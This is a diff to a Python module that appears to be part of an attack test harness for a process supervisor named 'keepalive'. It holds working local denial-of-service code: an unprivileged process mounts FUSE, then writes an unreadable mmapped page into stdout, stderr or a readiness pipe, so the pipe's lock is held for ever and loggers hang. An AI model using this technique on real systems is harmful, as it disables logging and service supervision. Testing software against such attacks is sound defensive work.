@@ -25,13 +25,13 @@ MAX_FDS = 253
 # When keepalive reads no more of our messages.
 SEND_TIMEOUT = 0.5
 # System calls of x86-64.
-WRITE, EPOLL_CTL = 1, 233
+WRITEV, EPOLL_CTL = 20, 233
 libc = ctypes.CDLL(None, use_errno=True)
 
 
-def begin():
+def begin(suffix=""):
     """For the attacks that need no preparation by root."""
-    while not os.path.exists(HERE + "/go"):
+    while not os.path.exists(HERE + "/go" + suffix):
         time.sleep(0.01)
 
 
@@ -196,10 +196,10 @@ def epoll_mutex(text):
 
 
 def until_thread_hangs(call):
-    """Waits until the only other thread of this process waits in a system call."""
+    """Waits until the only other thread of this process waits in a system call. Exits if there is none."""
     main = os.getpid()
     while True:
-        for task in set(os.listdir("/proc/self/task")) - {str(main)}:
+        for task in set(os.listdir("/proc/self/task")) - {str(main)} or os._exit(1):
             with open(f"/proc/self/task/{task}/stat") as stat, open(f"/proc/self/task/{task}/syscall") as syscall:
                 if stat.read().rsplit(") ", 1)[1][0] in "SD" and syscall.read().startswith(f"{call} "):
                     return
@@ -207,24 +207,39 @@ def until_thread_hangs(call):
 
 
 def log_pipe(number="1"):
-    """Leaves a process behind that holds the lock of our stdout or stderr for ever: it writes a page that cannot be read."""
-    fuse.mount_as_user(fuse.READ, MNT, DEVICE)
+    """Leaves a process behind that holds the lock of our stdout or stderr for ever. A logger then asks how much it holds."""
     sd.say("READY=1")
     begin()
     sd.show("attacking")
+    leave_locked(int(number))
+
+
+def ready_pipe(number, *writes):
+    """Leaves a process behind that holds the lock of the pipe of `ready.fd` for ever, and another one that `writes` to it."""
+    begin(os.environ["KEEPALIVE_INSTANCE"])
+    leave_locked(int(number), writes)
+
+
+def leave_locked(pipe, writes=False):
+    """A process writes a page to `pipe` that cannot be read. This one exits."""
+    fuse.mount_as_user(fuse.READ, MNT, DEVICE)
     page = mmap.mmap(os.open(FILE, os.O_RDONLY), fuse.PAGE, prot=mmap.PROT_READ)
     # The line has been read.
     while fcntl.ioctl(1, termios.FIONREAD, bytes(4)) != bytes(4):
         time.sleep(0.01)
     there, here = os.pipe()
     if os.fork() == 0:
-        threading.Thread(target=os.write, args=(int(number), page), daemon=True).start()
-        until_thread_hangs(WRITE)
+        if writes and os.fork() == 0:
+            while True:
+                os.write(pipe, b"x")
+        # What is before the page shows that there is something to read.
+        threading.Thread(target=os.writev, args=(pipe, [bytes(fuse.PAGE), page]), daemon=True).start()
+        until_thread_hangs(WRITEV)
         os.write(here, b"!")
         while True:
             signal.pause()
+    os.close(here)
     os.read(there, 1)
-    # Where there is a logger, it now asks how much the pipe holds.
     os._exit(0)
 
 
